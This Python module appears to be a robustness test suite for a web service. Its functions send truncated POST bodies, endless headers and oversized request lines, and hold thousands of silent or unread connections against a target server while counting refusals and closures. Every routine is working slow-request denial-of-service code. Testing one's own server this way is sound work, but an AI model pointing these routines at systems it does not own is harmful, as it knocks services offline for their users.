"""Requests that are never whole: half bodies, endless headers, and connections that say nothing at all."""

from __future__ import annotations

import contextlib
import socket
import time
from collections import Counter

from attacks.wire import Target, read_answer, request


def halves(target: Target, seconds: float) -> Counter[str]:
    """Requests that are cut in the middle of their bodies, and some that only stop."""
    found: Counter[str] = Counter()
    deadline = time.monotonic() + seconds
    half = b"POST /api/tables HTTP/1.1\r\nHost: x\r\nContent-Length: 900\r\n\r\n{"
    kept: list[socket.socket] = []
    while time.monotonic() < deadline:
        try:
            line = target.connect()
            line.sendall(half)
        except OSError:
            found["refused"] += 1
            time.sleep(0.02)
            continue
        found["halves"] += 1
        if found["halves"] % 10 == 0 and len(kept) < 200:
            kept.append(line)
        else:
            line.close()
        time.sleep(0.002)
    found["stopped"] = len(kept)
    found["stopped and closed by the server"] = _closed(kept)
    for line in kept:
        line.close()
    return found


def headers(target: Target, seconds: float) -> Counter[str]:
    """Endless headers: small ones, then one large one, then an endless address; connect again when cut off."""
    found: Counter[str] = Counter()
    deadline = time.monotonic() + seconds
    begin = b"GET /healthz HTTP/1.1\r\nHost: x\r\n"
    kinds = {
        "small": (begin, b"".join(b"a%05d: b\r\n" % i for i in range(6000))),
        "large": (begin + b"a: ", b"b" * 65536),
        "address": (b"GET /", b"b" * 65536),
        "together": (b"", request("GET", "/healthz") * 1500),
    }
    number = 0
    while time.monotonic() < deadline:
        name, (first, piece) = list(kinds.items())[number % len(kinds)]
        number += 1
        try:
            line = target.connect()
        except OSError:
            found["refused"] += 1
            time.sleep(0.02)
            continue
        until = min(deadline, time.monotonic() + seconds / len(kinds))
        try:
            line.sendall(first)
            while time.monotonic() < until:
                line.sendall(piece)
                found[f"bytes, {name}"] += len(piece)
            found[f"{name}: still open"] += 1
        except OSError:
            found[f"{name}: closed"] += 1
        line.close()
    return found


def silent(target: Target, seconds: float, most: int = 2000) -> Counter[str]:
    """Connections that say nothing, or nearly nothing."""
    found: Counter[str] = Counter()
    deadline = time.monotonic() + seconds
    held = []
    for number in range(most):
        try:
            line = target.connect()
            if number % 10 == 0:
                line.sendall(b"GET /healthz HTTP/1.1\r\nX: ")
        except OSError:
            found["refused"] += 1
            continue
        held.append(line)
        if time.monotonic() > deadline:
            break
    found["connections"] = len(held)
    while time.monotonic() < deadline:
        for line in held[::100]:
            with contextlib.suppress(OSError):
                line.send(b"")
        time.sleep(0.2)
    found["closed by the server"] = _closed(held)
    for line in held:
        line.close()
    return found


def unread_answers(target: Target, seconds: float) -> Counter[str]:
    """Large answers asked for on many connections, and nobody who reads them."""
    found: Counter[str] = Counter()
    deadline = time.monotonic() + seconds
    held: list[socket.socket] = []
    while time.monotonic() < deadline and len(held) < 400:
        try:
            line = target.connect(received=4096)
            line.sendall(request("GET", "/api/games") * 8)
            held.append(line)
        except OSError:
            found["refused"] += 1
        time.sleep(0.01)
    time.sleep(max(0.0, deadline - time.monotonic()))
    found["connections"] = len(held)
    for line in held:
        line.close()
    return found


def _closed(held: list[socket.socket]) -> int:
    """How many of these connections the server has closed."""
    count = 0
    for line in held:
        line.setblocking(False)
        try:
            while line.recv(4096):
                pass
            count += 1
        except BlockingIOError:
            pass
        except OSError:
            count += 1
    return count


def is_answered(target: Target, path: str = "/healthz") -> int:
    """The status of a plain request."""
    with target.connect(30.0) as line:
        line.sendall(request("GET", path))
        return read_answer(line).status
